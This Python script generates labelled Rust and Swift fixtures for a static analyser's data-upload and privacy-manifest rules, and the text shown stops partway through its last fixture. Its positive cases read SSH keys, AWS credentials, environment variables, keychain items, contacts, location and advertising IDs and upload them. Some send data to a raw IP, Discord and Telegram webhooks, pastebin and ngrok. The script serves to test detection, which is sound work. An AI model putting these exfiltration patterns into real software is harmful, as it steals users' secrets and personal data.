#!/usr/bin/env python3
"""Generates the data-upload evaluation set: `data-upload/` and its `labels.tsv`.

Run from anywhere: `python3 test-fixtures/eval/gen_data_upload.py`; commit the
output with this script. Families are the rules. Each flow positive is a network
sink call that sensitive data reaches from its source through zero to three
local variables or helper functions; each negative is the same source used on
the device (logged, shown, written to a local file), a credential authenticating
its own request, or a harmless payload sent to the network. Projects with a
`trustlint.toml` (and, for Swift, a `PrivacyInfo.xcprivacy`) measure the
allow-list and privacy-manifest rules: undeclared hosts, undeclared collection
and tracking, required-reason APIs without a reason.
"""

import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from evalgen import Writer, write_manifest  # noqa: E402

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "data-upload")

ENV = "data-upload/env-vars-to-network"
KEY = "data-upload/key-file-to-network"
DEVICE = "data-upload/device-id-to-network"
CLIP = "data-upload/clipboard-to-network"
LOCATION = "data-upload/location-to-network"
CONTACTS = "data-upload/contacts-to-network"
SUSPICIOUS = "data-upload/suspicious-destination"
SENSITIVE = "data-upload/sensitive-data-to-network"
HOST = "data-upload/undeclared-host"
COLLECTED = "data-upload/undeclared-collected-data"
TRACKING = "data-upload/undeclared-tracking"
REASON = "data-upload/missing-required-reason"

files = []


def new(path):
    w = Writer(ROOT, path)
    files.append(w)
    return w


def fam(rule):
    return rule.split("/")[1]


# Rust sources: (rule, expression, type) — what a telemetry crate or a stealer reads.
RUST_SOURCES = [
    (ENV, "std::env::vars().collect::<std::collections::HashMap<String, String>>()", "env"),
    (ENV, 'std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default()', "env"),
    (KEY, 'std::fs::read_to_string(home.join(".ssh/id_rsa")).unwrap_or_default()', "key"),
    (KEY, 'std::fs::read_to_string(home.join(".aws/credentials")).unwrap_or_default()', "key"),
    (DEVICE, "hostname::get().unwrap_or_default().to_string_lossy().into_owned()", "device"),
    (DEVICE, "machine_uid::get().unwrap_or_default()", "device"),
    (CLIP, "arboard::Clipboard::new().and_then(|mut c| c.get_text()).unwrap_or_default()", "clip"),
]

# Rust sinks: the line the finding starts on is the one with the call.
RUST_SINKS = [
    'let _ = client.post(TELEMETRY).json(&{v}).send().await;',
    'let _ = client.post(TELEMETRY).body(format!("{{:?}}", {v})).send().await;',
    'let _ = ureq::post(TELEMETRY).send_string(&format!("{{:?}}", {v}));',
    'let _ = client.put(TELEMETRY).header("X-Report", format!("{{:?}}", {v})).send().await;',
]


def rust_telemetry(crate, sources, hops_cycle, endpoint="https://telemetry.devtools-metrics.io/v2/report"):
    w = new(f"rust/{crate}/src/telemetry.rs")
    w("use std::path::PathBuf;")
    w("")
    w(f'const TELEMETRY: &str = "{endpoint}";')
    w("")
    w("fn home() -> PathBuf {")
    w('    dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"))')
    w("}")
    w("")
    case = 0
    for rule, source, kind in sources:
        for sink in RUST_SINKS + RUST_SINKS:
            hops = hops_cycle[case % len(hops_cycle)]
            name = f"report_{kind}_{case}"
            if hops == "helper":
                w(f"fn collect_{case}(home: &std::path::Path) -> String {{")
                w(f'    format!("{{:?}}", {source})')
                w("}")
                w("")
            w(f"pub async fn {name}(client: &reqwest::Client) {{")
            w("    let home = home();")
            if hops == "helper":
                w(f"    let payload = collect_{case}(&home);")
            else:
                w(f"    let collected = {source};")
                var = "collected"
                for hop in range(hops):
                    w(f"    let step{hop} = {var};")
                    var = f"step{hop}"
                w(f"    let payload = {var};")
            w.pos(rule, fam(rule), "    " + sink.format(v="payload"), f"{kind} source, {hops} hops")
            w("}")
            w("")
            case += 1
    # Negatives: the same sources used on the machine, and harmless payloads.
    for i, (rule, source, kind) in enumerate(sources + sources):
        w(f"pub fn show_{kind}_{i}() {{")
        w("    let home = home();")
        w(f"    let value = {source};")
        w.neg(fam(rule), '    println!("{:?}", value);', "printed locally")
        w.neg(fam(rule), '    let _ = std::fs::write(home.join(".cache/devtools/last.txt"), format!("{:?}", value));', "written to a local cache")
        w("}")
        w("")
        w(f"pub async fn heartbeat_{i}(client: &reqwest::Client) {{")
        w('    let version = env!("CARGO_PKG_VERSION");')
        w.neg(fam(rule), '    let _ = client.post(TELEMETRY).json(&serde_json::json!({ "version": version, "ok": true })).send().await;', "non-sensitive payload")
        w("}")
        w("")
        w(f"pub async fn uptime_{i}(client: &reqwest::Client, started: std::time::Instant) {{")
        w("    let seconds = started.elapsed().as_secs();")
        w("    let report = format!(\"uptime={seconds}\");")
        w.neg(fam(rule), "    let _ = client.post(TELEMETRY).body(report).send().await;", "non-sensitive payload through a variable")
        w("}")
        w("")
    return w


rust_telemetry("devtools-metrics", RUST_SOURCES, [0, 1, 2, 3, "helper"])

# Other sensitive data (`sensitive-data-to-network`): keyring secrets, the process
# list and the local accounts, as a desktop agent's "diagnostics" collect them.
RUST_OTHER_SOURCES = [
    (SENSITIVE, 'keyring::Entry::new("desktop-agent", "default").and_then(|entry| entry.get_password()).unwrap_or_default()', "keyring"),
    (SENSITIVE, "sysinfo::System::new_all().processes().values().map(|p| p.name().to_string_lossy().into_owned()).collect::<Vec<String>>()", "processes"),
    (SENSITIVE, "sysinfo::Users::new_with_refreshed_list().iter().map(|u| u.name().to_owned()).collect::<Vec<String>>()", "accounts"),
]


def rust_sensitive():
    w = rust_telemetry("desktop-agent", RUST_OTHER_SOURCES, [0, 1, 2, 3, "helper"],
                       "https://api.desktop-agent.dev/v1/diagnostics")
    family = fam(SENSITIVE)
    # A keyring secret used as the request's credentials is what it is stored for.
    for i in range(4):
        w(f"pub async fn authenticated_sync_{i}(client: &reqwest::Client) {{")
        w('    let token = keyring::Entry::new("desktop-agent", "default").and_then(|entry| entry.get_password()).unwrap_or_default();')
        w.neg(family, "    let _ = client.post(TELEMETRY).bearer_auth(&token).body(\"sync\").send().await;", "keyring token as bearer auth")
        w.neg(family, '    let _ = client.get(TELEMETRY).header("Authorization", format!("Bearer {token}")).send().await;', "keyring token in the Authorization header")
        w.neg(family, '    let _ = client.get(TELEMETRY).basic_auth("agent", Some(&token)).send().await;', "keyring password as basic auth")
        w.neg(family, '    let _ = ureq::get(TELEMETRY).set("X-Api-Key", &token).call();', "keyring key in an API-key header")
        w("}")
        w("")
    # Counts and flags derived from the data, not the data.
    for i in range(4):
        w(f"pub async fn inventory_{i}(client: &reqwest::Client) {{")
        w("    let sys = sysinfo::System::new_all();")
        w("    let accounts = sysinfo::Users::new_with_refreshed_list();")
        w.neg(family, '    let _ = client.post(TELEMETRY).json(&serde_json::json!({ "processes": sys.processes().len() })).send().await;', "a process count")
        w.neg(family, '    let _ = client.post(TELEMETRY).json(&serde_json::json!({ "shared_machine": accounts.len() > 1 })).send().await;', "whether there are several accounts")
        w("    let busy = sys.processes().is_empty();")
        w.neg(family, "    let _ = client.post(TELEMETRY).body(format!(\"busy={busy}\")).send().await;", "a flag derived from the process list")
        w("}")
        w("")


rust_sensitive()


def rust_declared_hosts():
    """A desktop sync client with an allow-list: calls to undeclared hosts are
    findings whatever they send; allowed hosts, loopback and URLs only known at
    run time are not."""
    root = "rust/notebox-desktop"
    config = new(f"{root}/trustlint.toml")
    config("# The hosts this desktop client tells its users about (privacy policy, section 4).")
    config("[data-upload]")
    config('allowed-hosts = ["api.notebox.app", "*.notebox.app", "o4507.ingest.sentry.io"]')
    w = new(f"{root}/src/sync.rs")
    family = fam(HOST)
    w("//! Notebox desktop: note sync, crash reports, update checks and the odd")
    w("//! third-party call a dependency or a contractor added.")
    w("")
    w('const API_BASE: &str = "https://api.notebox.app/v2";')
    undeclared = [
        "https://collect.growthpulse.io/v1/batch",
        "https://cdn.jsdelivr.net/gh/notebox/announcements/latest.txt",
        "https://api.notebox-app.com/v2/notes",
        "https://notebox.app.storage-eu.net/upload",
        "https://in.appcenter.ms/logs/v1",
        "https://api.segment.io/v1/track",
        "https://o11.ingest.sentry.io/api/11/envelope/",
        "https://hooks.zapier.com/hooks/catch/4417/notes",
    ]
    allowed = [
        "https://api.notebox.app/v2/notes",
        "https://sync.notebox.app/v1/push",
        "https://eu.sync.notebox.app/v1/push",
        "https://o4507.ingest.sentry.io/api/4507/envelope/",
        "http://localhost:48321/health",
        "http://127.0.0.1:48321/search",
        "http://[::1]:48321/index",
        "https://updates.notebox.app/stable/feed.json",
    ]
    # Call shapes; `{url}` is a literal URL, `{name}` a constant holding it.
    shapes = [
        ("literal", None, '    let _ = client.post("{url}").json(&event).send().await;'),
        ("constant", 'const {name}: &str = "{url}";', "    let _ = client.post({name}).json(&event).send().await;"),
        ("format", 'const {name}: &str = "{origin}";', '    let _ = client.get(format!("{{{name}}}{path}")).send().await;'),
        ("ureq", None, '    let _ = ureq::get("{url}").call();'),
        ("reqwest::get", None, '    let _ = reqwest::get("{url}").await;'),
        ("local", None, '    let url = "{url}";\n    let _ = client.request(reqwest::Method::PUT, url).body(event.to_string()).send().await;'),
    ]
    case = 0
    for urls, label in ((undeclared, HOST), (allowed, None)):
        for url in urls:
            for shape, const, call in shapes:
                name = f"ENDPOINT_{case}"
                scheme, rest = url.split("://", 1)
                host, _, path = rest.partition("/")
                origin = f"{scheme}://{host}"
                values = dict(url=url, name=name, origin=origin, path="/" + path)
                if const:
                    w(const.format(**values))
                w(f"pub async fn call_{case}(client: &reqwest::Client, event: &serde_json::Value) {{")
                lines = call.format(**values).split("\n")
                for line in lines[:-1]:
                    w(line)
                if label:
                    w.pos(label, family, lines[-1], f"undeclared host, {shape}")
                else:
                    w.neg(family, lines[-1], f"allowed or loopback host, {shape}")
                w("}")
                w("")
                case += 1
    # Destinations only known at run time, URLs that are never requested, test code.
    w("pub async fn configured(client: &reqwest::Client, settings: &Settings) {")
    w('    let endpoint = std::env::var("NOTEBOX_API").unwrap_or_else(|_| settings.endpoint.clone());')
    w.neg(family, '    let _ = client.post(&endpoint).body("ping").send().await;', "destination from the environment or settings")
    w.neg(family, '    let _ = client.post(&settings.endpoint).body("ping").send().await;', "destination from settings")
    w("}")
    w("")
    w("pub fn help_links() -> Vec<String> {")
    w.neg(family, '    let docs = url::Url::parse("https://docs.markdown-guide.org/basic-syntax").expect("static URL");', "a URL parsed to show a link, never requested")
    w.neg(family, '    println!("report problems at https://github.com/notebox/desktop/issues");', "a URL printed to the user")
    w("    vec![docs.to_string()]")
    w("}")
    w("")
    w("#[cfg(test)]")
    w("mod tests {")
    w("    #[test]")
    w("    fn mock_server_answers() {")
    w.neg(family, '        let _ = ureq::get("https://mock.notebox-test.invalid/notes").call();', "test code")
    w("    }")
    w("}")


rust_declared_hosts()


def rust_destinations():
    w = new("rust/build-helper/src/report.rs")
    w("pub async fn send_all(client: &reqwest::Client, summary: &str) {")
    for url in ["http://45.77.12.190:8080/c", "https://discord.com/api/webhooks/1234567890123456789/abcdefABCDEF",
                "https://api.telegram.org/bot123456789:AAH/sendMessage", "https://pastebin.com/api/api_post.php",
                "https://webhook.site/2f1c9a7e-0b3d-4c55-9e1a-7a6b5c4d3e2f", "https://a1b2c3d4.ngrok-free.app/collect"]:
        w.pos(SUSPICIOUS, fam(SUSPICIOUS), f'    let _ = client.post("{url}").body(summary.to_owned()).send().await;', "suspicious destination")
    for url in ["https://api.github.com/repos/acme/build-helper/issues", "https://crates.io/api/v1/crates",
                "https://telemetry.devtools-metrics.io/v2/report", "https://hooks.acme-ci.io/build"]:
        w.neg(fam(SUSPICIOUS), f'    let _ = client.post("{url}").body(summary.to_owned()).send().await;', "ordinary destination")
    w("}")


rust_destinations()


# Swift sources: (rule, setup lines, value expression).
SWIFT_SOURCES = [
    (LOCATION, "let coordinate = locationManager.location?.coordinate", '"\\(coordinate?.latitude ?? 0),\\(coordinate?.longitude ?? 0)"', "location"),
    (CONTACTS, "let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])", "contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? \"\"", "contacts"),
    (CLIP, "let pasted = UIPasteboard.general.string", 'pasted ?? ""', "clipboard"),
    (DEVICE, "let idfa = ASIdentifierManager.shared().advertisingIdentifier", "idfa.uuidString", "idfa"),
    (DEVICE, "let vendorID = UIDevice.current.identifierForVendor", 'vendorID?.uuidString ?? ""', "idfv"),
]

# (line preparing the request, line sending it, which of the two the finding
# starts on): data enters a request at `httpBody =`/`setValue`, and an upload
# task takes it as an argument.
SWIFT_SINKS = [
    ("request.httpBody = Data(payload.utf8)", "_ = try? await URLSession.shared.data(for: request)", 0),
    ("let body = Data(payload.utf8)", "_ = try? await URLSession.shared.upload(for: request, from: body)", 1),
    ('request.setValue(payload, forHTTPHeaderField: "X-Context")', "URLSession.shared.dataTask(with: request).resume()", 0),
]


def swift_sdk(module, sources, imports=("AdSupport", "Contacts", "CoreLocation", "Foundation", "UIKit"),
              properties=("private let locationManager = CLLocationManager()",),
              endpoint="https://collect.insightful-sdk.io/v1/events"):
    w = new(f"swift/{module}/Sources/{module}/Reporter.swift")
    for module_name in imports:
        w(f"import {module_name}")
    w("")
    w(f"public final class {module}Reporter {{")
    for line in properties:
        w(f"    {line}")
    w(f'    private let endpoint = URL(string: "{endpoint}")!')
    w("")
    case = 0
    for rule, setup, value, kind in sources:
        for prepare, send, labelled in SWIFT_SINKS:
            for hops in (0, 1, 2):
                w(f"    public func report{kind.capitalize()}{case}() async {{")
                w(f"        {setup}")
                w(f"        let raw = {value}")
                var = "raw"
                for hop in range(hops):
                    w(f"        let step{hop} = {var}")
                    var = f"step{hop}"
                w(f"        let payload = {var}")
                w("        var request = URLRequest(url: endpoint)")
                w('        request.httpMethod = "POST"')
                lines = [f"        {prepare}", f"        {send}"]
                for index, line in enumerate(lines):
                    if index == labelled:
                        w.pos(rule, fam(rule), line, f"{kind} source, {hops} hops")
                    else:
                        w(line)
                w("    }")
                w("")
                case += 1
    for i, (rule, setup, value, kind) in enumerate(sources + sources):
        w(f"    public func show{kind.capitalize()}{i}(on label: UILabel) {{")
        w(f"        {setup}")
        w.neg(fam(rule), f"        label.text = {value}", "shown on the device")
        w("    }")
        w("")
        w(f"    public func cache{kind.capitalize()}{i}(to file: URL) {{")
        w(f"        {setup}")
        w(f"        let text = {value}")
        w.neg(fam(rule), "        try? Data(text.utf8).write(to: file, options: .completeFileProtection)", "saved on the device")
        w.neg(fam(rule), '        print("cached \\(text.count) characters")', "logged locally")
        w("    }")
        w("")
        w(f"    public func heartbeat{i}() async {{")
        w("        var request = URLRequest(url: endpoint)")
        w('        request.httpMethod = "POST"')
        w('        request.httpBody = Data("{\\"sdk\\":\\"2.4.1\\",\\"event\\":\\"launch\\"}".utf8)')
        w.neg(fam(rule), "        _ = try? await URLSession.shared.data(for: request)", "non-sensitive payload")
        w("    }")
        w("")
    return w


swift_sdk("Insightful", SWIFT_SOURCES)("}")

# Other sensitive data (`sensitive-data-to-network`): keychain items, calendar events
# and the apps a URL-scheme probe finds installed.
SWIFT_OTHER_SOURCES = [
    (SENSITIVE, 'let stored = KeychainWrapper.standard.string(forKey: "session")', 'stored ?? ""', "keychain"),
    (SENSITIVE, "let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil))",
     'events.map { $0.title ?? "" }.joined(separator: "|")', "calendar"),
    (SENSITIVE, 'let installed = ["coinbase", "venmo", "tinder", "grindr"].filter { UIApplication.shared.canOpenURL(URL(string: "\\($0)://")!) }',
     'installed.joined(separator: ",")', "apps"),
]


def swift_sensitive():
    w = swift_sdk("Pulsewave", SWIFT_OTHER_SOURCES,
                  imports=("EventKit", "Foundation", "SwiftKeychainWrapper", "UIKit"),
                  properties=("private let eventStore = EKEventStore()",),
                  endpoint="https://api.pulsewave-sdk.io/v2/collect")
    family = fam(SENSITIVE)
    # A keychain token authenticating the SDK's own requests is what it is kept for.
    for i in range(3):
        w(f"    public func authenticatedFetch{i}() async {{")
        w('        let token = KeychainWrapper.standard.string(forKey: "session") ?? ""')
        w("        var request = URLRequest(url: endpoint)")
        w.neg(family, '        request.setValue("Bearer \\(token)", forHTTPHeaderField: "Authorization")', "keychain token as the request's bearer token")
        w("        _ = try? await URLSession.shared.data(for: request)")
        w("    }")
        w("")
    # Counts and on-device use.
    for i in range(3):
        w(f"    public func summary{i}() async {{")
        w("        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(86_400), calendars: nil))")
        w("        var request = URLRequest(url: endpoint)")
        w('        request.httpMethod = "POST"')
        w.neg(family, '        request.httpBody = Data("{\\"busyToday\\":\\(events.isEmpty ? "false" : "true")}".utf8)', "whether the day has events, not the events")
        w("        _ = try? await URLSession.shared.data(for: request)")
        w("    }")
        w("")
        w(f"    public func showAgenda{i}(in label: UILabel) {{")
        w("        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(86_400), calendars: nil))")
        w.neg(family, '        label.text = events.map { $0.title ?? "" }.joined(separator: "\\n")', "calendar shown on the device")
        w("    }")
        w("")
    w("}")


swift_sensitive()


def swift_declared_hosts():
    """An iOS notes app with an allow-list: requests to undeclared hosts are findings
    whatever they send; allowed hosts, loopback, configured URLs and links the user
    opens are not."""
    root = "swift/NoteboxMobile"
    config = new(f"{root}/trustlint.toml")
    config("# The hosts the app's privacy policy names.")
    config("[data-upload]")
    config('allowed-hosts = ["api.notebox.app", "*.notebox.app", "app-measurement.com"]')
    w = new(f"{root}/Sources/NoteboxMobile/Networking/SyncService.swift")
    family = fam(HOST)
    undeclared = [
        "https://collect.growthpulse.io/v1/batch",
        "https://api.notebox-app.com/v2/notes",
        "https://notebox.app.storage-eu.net/upload",
        "https://in.appcenter.ms/logs/v1",
        "https://api.segment.io/v1/track",
        "https://cdn.jsdelivr.net/gh/notebox/remote-config/flags.json",
    ]
    allowed = [
        "https://api.notebox.app/v2/notes",
        "https://sync.notebox.app/v1/push",
        "https://eu.sync.notebox.app/v1/push",
        "https://updates.notebox.app/ios/feed.json",
        "http://localhost:8080/health",
        "http://127.0.0.1:8080/search",
    ]
    # (property lines, body lines); the last body line is the one the finding is on.
    shapes = [
        ("inline", [], ['URLSession.shared.dataTask(with: URL(string: "{url}")!).resume()']),
        ("Alamofire", [], ['AF.request("{url}", method: .post, parameters: ["version": version])']),
        ("request", [], ['var request = URLRequest(url: URL(string: "{url}")!)', 'request.httpMethod = "POST"',
                         "_ = try? await URLSession.shared.data(for: request)"]),
        ("local", [], ['let target = URL(string: "{url}")!', 'let body = Data("{{\\"v\\":1}}".utf8)',
                       "URLSession.shared.uploadTask(with: URLRequest(url: target), from: body).resume()"]),
        ("property", ['private let endpoint{case} = URL(string: "{url}")!'],
         ["URLSession.shared.dataTask(with: endpoint{case}).resume()"]),
    ]
    w("import Alamofire")
    w("import Foundation")
    w("import SafariServices")
    w("import SwiftUI")
    w("import UIKit")
    w("")
    w("final class SyncService {")
    w('    private let version = Bundle.main.infoDictionary?["CFBundleShortVersionString"] as? String ?? "0"')
    w("")
    case = 0
    for urls, label in ((undeclared, HOST), (allowed, None)):
        for url in urls:
            for shape, properties, body in shapes:
                for line in properties:
                    w("    " + line.format(url=url, case=case))
                w(f"    func call{case}() async {{")
                lines = [line.format(url=url, case=case) for line in body]
                for line in lines[:-1]:
                    w("        " + line)
                if label:
                    w.pos(label, family, "        " + lines[-1], f"undeclared host, {shape}")
                else:
                    w.neg(family, "        " + lines[-1], f"allowed or loopback host, {shape}")
                w("    }")
                w("")
                case += 1
    # Configured destinations and links the user opens are not requests the code makes.
    w("    func configured() async {")
    w('        let base = Bundle.main.object(forInfoDictionaryKey: "APIBaseURL") as? String ?? ""')
    w.neg(family, '        URLSession.shared.dataTask(with: URL(string: base + "/v2/ping")!).resume()', "destination from the Info.plist")
    w("    }")
    w("")
    w("    func openHelp(from controller: UIViewController) {")
    w.neg(family, '        UIApplication.shared.open(URL(string: "https://support.zendesk-help.com/notebox")!)', "a link opened in the browser")
    w.neg(family, '        controller.present(SFSafariViewController(url: URL(string: "https://www.markdownguide.org/basic-syntax/")!), animated: true)', "a page shown in Safari")
    w("    }")
    w("}")
    w("")
    w("struct AboutView: View {")
    w("    var body: some View {")
    w.neg(family, '        Link("Privacy policy", destination: URL(string: "https://legal.termsfeed.com/notebox/privacy")!)', "a SwiftUI link the user taps")
    w("    }")
    w("}")


swift_declared_hosts()


def privacy_manifest(path, tracking, tracking_domains, collected, api_reasons):
    """A `PrivacyInfo.xcprivacy` as Xcode writes it; `api_reasons` maps a category
    to its reason codes (an empty list declares the category without a reason)."""
    w = new(path)
    w('<?xml version="1.0" encoding="UTF-8"?>')
    w('<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">')
    w('<plist version="1.0">')
    w("<dict>")
    w("\t<key>NSPrivacyTracking</key>")
    w(f"\t<{'true' if tracking else 'false'}/>")
    w("\t<key>NSPrivacyTrackingDomains</key>")
    w("\t<array>")
    for domain in tracking_domains:
        w(f"\t\t<string>{domain}</string>")
    w("\t</array>")
    w("\t<key>NSPrivacyCollectedDataTypes</key>")
    w("\t<array>")
    for data_type in collected:
        w("\t\t<dict>")
        w("\t\t\t<key>NSPrivacyCollectedDataType</key>")
        w(f"\t\t\t<string>NSPrivacyCollectedDataType{data_type}</string>")
        w("\t\t\t<key>NSPrivacyCollectedDataTypeLinked</key>")
        w("\t\t\t<false/>")
        w("\t\t\t<key>NSPrivacyCollectedDataTypeTracking</key>")
        w(f"\t\t\t<{'true' if tracking else 'false'}/>")
        w("\t\t\t<key>NSPrivacyCollectedDataTypePurposes</key>")
        w("\t\t\t<array>")
        w("\t\t\t\t<string>NSPrivacyCollectedDataTypePurposeAppFunctionality</string>")
        w("\t\t\t</array>")
        w("\t\t</dict>")
    w("\t</array>")
    w("\t<key>NSPrivacyAccessedAPITypes</key>")
    w("\t<array>")
    for category, reasons in api_reasons.items():
        w("\t\t<dict>")
        w("\t\t\t<key>NSPrivacyAccessedAPIType</key>")
        w(f"\t\t\t<string>NSPrivacyAccessedAPICategory{category}</string>")
        w("\t\t\t<key>NSPrivacyAccessedAPITypeReasons</key>")
        if reasons:
            w("\t\t\t<array>")
            for reason in reasons:
                w(f"\t\t\t\t<string>{reason}</string>")
            w("\t\t\t</array>")
        else:
            w("\t\t\t<array/>")
        w("\t\t</dict>")
    w("\t</array>")
    w("</dict>")
    w("</plist>")


# Data a trail app shares, as (kind, parameter declaration, payload expression, declared
# in the manifest). Undeclared types are findings even when the user consented: the
# manifest must describe collection that happens with consent too.
SHARED_DATA = [
    ("contacts", "contacts: [CNContact]", 'contacts.map { $0.givenName }.joined(separator: ",")', False),
    ("photos", "asset: PHAsset", "asset.localIdentifier", False),
    ("health", "samples: [HKQuantitySample]", 'samples.map { "\\($0.quantity)" }.joined(separator: ",")', False),
    ("calendar", "events: [EKEvent]", 'events.map { $0.title ?? "" }.joined(separator: "|")', False),
    ("location", "locations: [CLLocation]", 'locations.map { "\\($0.coordinate.latitude),\\($0.coordinate.longitude)" }.joined(separator: ";")', True),
    ("vendorId", "device: UIDevice", 'device.identifierForVendor?.uuidString ?? ""', True),
]

# (prepare lines, the line the finding starts on): sinks to the app's allowed host.
SHARE_SINKS = [
    ([], 'AF.request("https://api.trailmate.app/v1/share", method: .post, parameters: ["data": payload])'),
    (["var request = URLRequest(url: URL(string: \"https://sync.trailmate.app/v1/share\")!)", 'request.httpMethod = "POST"'],
     "request.httpBody = Data(payload.utf8)"),
    ([], 'Analytics.logEvent("trail_shared", parameters: ["data": payload])'),
]


def swift_manifest_tracking_app():
    """An app whose manifest declares tracking, its tracking domain, location and the
    device id: consented flows of other data are undeclared collection, and the IDFA
    sent anywhere but the tracking domain is undeclared tracking."""
    root = "swift/TrailMate"
    config = new(f"{root}/trustlint.toml")
    config("[data-upload]")
    config('allowed-hosts = ["api.trailmate.app", "*.trailmate.app", "ads.trailmate-partners.com", "*.trailmate-partners.com", "app-measurement.com"]')
    privacy_manifest(f"{root}/Sources/TrailMate/Resources/PrivacyInfo.xcprivacy", True,
                     ["ads.trailmate-partners.com"], ["PreciseLocation", "DeviceID"],
                     {"UserDefaults": ["CA92.1"]})
    w = new(f"{root}/Sources/TrailMate/Sharing/TrailSharing.swift")
    w("import AdSupport")
    w("import Alamofire")
    w("import AppTrackingTransparency")
    w("import Contacts")
    w("import CoreLocation")
    w("import EventKit")
    w("import FirebaseAnalytics")
    w("import HealthKit")
    w("import Photos")
    w("import UIKit")
    w("")
    w("final class TrailSharing {")
    case = 0
    for kind, parameter, payload, declared in SHARED_DATA:
        for prepare, sink in SHARE_SINKS:
            w(f"    func share{kind[0].upper() + kind[1:]}{case}({parameter}, hasUserConsent: Bool) {{")
            w("        guard hasUserConsent else { return }")
            w(f"        let payload = {payload}")
            for line in prepare:
                w(f"        {line}")
            if declared:
                w.neg(fam(COLLECTED), f"        {sink}", f"{kind} is declared, consented")
            else:
                w.pos(COLLECTED, fam(COLLECTED), f"        {sink}", f"{kind} not declared, consented")
            w("    }")
            w("")
            case += 1
    # The IDFA after App Tracking Transparency consent: to the declared tracking
    # domain it is declared tracking; to any other host it is not.
    idfa_sinks = [
        ("https://ads.trailmate-partners.com/v2/install", False),
        ("https://t.ads.trailmate-partners.com/v2/install", False),
        ("https://api.trailmate.app/v1/attribution", True),
        ("https://events.trailmate.app/v1/install", True),
        ("https://cdn.trailmate-partners.com/v2/install", True),
    ]
    sends = [
        'AF.request("{url}", method: .post, parameters: ["idfa": idfa])',
        'URLSession.shared.uploadTask(with: URLRequest(url: URL(string: "{url}")!), from: Data(idfa.utf8)).resume()',
    ]
    for url, undeclared in idfa_sinks:
        for send in sends:
            w(f"    func attribute{case}() {{")
            w("        guard ATTrackingManager.trackingAuthorizationStatus == .authorized else { return }")
            w("        let idfa = ASIdentifierManager.shared().advertisingIdentifier.uuidString")
            line = "        " + send.format(url=url)
            if undeclared:
                w.pos(TRACKING, fam(TRACKING), line, "IDFA to a host outside the tracking domains")
            else:
                w.neg(fam(TRACKING), line, "IDFA to a declared tracking domain")
            w("    }")
            w("")
            case += 1
    # On-device use needs no declaration.
    for kind, parameter, payload, _ in SHARED_DATA:
        w(f"    func preview{kind[0].upper() + kind[1:]}{case}({parameter}, in label: UILabel) {{")
        w.neg(fam(COLLECTED), f"        label.text = {payload}", f"{kind} shown on the device")
        w("    }")
        w("")
        case += 1
    w("}")


swift_manifest_tracking_app()


def swift_manifest_private_app():
    """An app whose manifest says it does not track and gives a reason only for
    UserDefaults: every IDFA read is undeclared tracking, and the first use of each
    other required-reason category in a file is a finding."""
    root = "swift/TideLog"
    config = new(f"{root}/trustlint.toml")
    config("[data-upload]")
    config('allowed-hosts = ["api.tidelog.app"]')
    privacy_manifest(f"{root}/App/PrivacyInfo.xcprivacy", False, [], ["CrashData"],
                     {"UserDefaults": ["CA92.1"], "DiskSpace": []})
    files = {
        "App/Attribution/InstallSource.swift": [
            ("import AdSupport", None, None),
            ("import AppTrackingTransparency", None, None),
            ("import UIKit", None, None),
            ("", None, None),
            ("enum InstallSource {", None, None),
            ("    static func advertisingId() -> String {", None, None),
            ("        ASIdentifierManager.shared().advertisingIdentifier.uuidString", TRACKING, "IDFA read while NSPrivacyTracking is false"),
            ("    }", None, None),
            ("", None, None),
            ("    static func adTrackingAllowed() -> Bool {", None, None),
            ("        ATTrackingManager.trackingAuthorizationStatus == .authorized", "-", "reading the ATT status is not tracking"),
            ("    }", None, None),
            ("", None, None),
            ("    static func installId() -> String {", None, None),
            ('        UIDevice.current.identifierForVendor?.uuidString ?? ""', "-", "the vendor id is not the IDFA"),
            ("    }", None, None),
            ("", None, None),
            ("    static func attributionPayload() -> [String: String] {", None, None),
            ("        let manager = ASIdentifierManager.shared()", None, None),
            ('        return ["ad_id": manager.advertisingIdentifier.uuidString, "source": "organic"]', TRACKING, "IDFA read through a variable"),
            ("    }", None, None),
            ("}", None, None),
        ],
        "App/Attribution/CampaignLink.swift": [
            ("import AdSupport", None, None),
            ("import Foundation", None, None),
            ("", None, None),
            ("struct CampaignLink {", None, None),
            ("    let url: URL", None, None),
            ("", None, None),
            ("    func tagged() -> URL {", None, None),
            ("        var components = URLComponents(url: url, resolvingAgainstBaseURL: false)!", None, None),
            ("        let adId = ASIdentifierManager.shared().advertisingIdentifier", TRACKING, "IDFA read for a campaign link"),
            ('        components.queryItems = [URLQueryItem(name: "source", value: "app")]', None, None),
            ('        _ = adId', None, None),
            ("        return components.url!", None, None),
            ("    }", None, None),
            ("}", None, None),
        ],
        "App/Storage/CacheJanitor.swift": [
            ("import Foundation", None, None),
            ("", None, None),
            ("struct CacheJanitor {", None, None),
            ("    let directory: URL", None, None),
            ("", None, None),
            ("    func staleFiles(olderThan age: TimeInterval) throws -> [URL] {", None, None),
            ("        let files = try FileManager.default.contentsOfDirectory(at: directory, includingPropertiesForKeys: [.contentModificationDateKey])", REASON, "file timestamp key"),
            ("        return try files.filter { file in", None, None),
            ("            let values = try file.resourceValues(forKeys: [.contentModificationDateKey])", None, None),
            ("            return Date().timeIntervalSince(values.contentModificationDate ?? Date()) > age", None, None),
            ("        }", None, None),
            ("    }", None, None),
            ("", None, None),
            ("    func canCache(bytes: Int64) throws -> Bool {", None, None),
            ("        let values = try directory.resourceValues(forKeys: [.volumeAvailableCapacityForImportantUsageKey])", REASON, "disk space declared without a reason"),
            ("        return (values.volumeAvailableCapacityForImportantUsage ?? 0) > bytes", None, None),
            ("    }", None, None),
            ("", None, None),
            ("    func lastCleanup() -> Date? {", None, None),
            ('        UserDefaults.standard.object(forKey: "lastCleanup") as? Date', "-", "UserDefaults has a declared reason"),
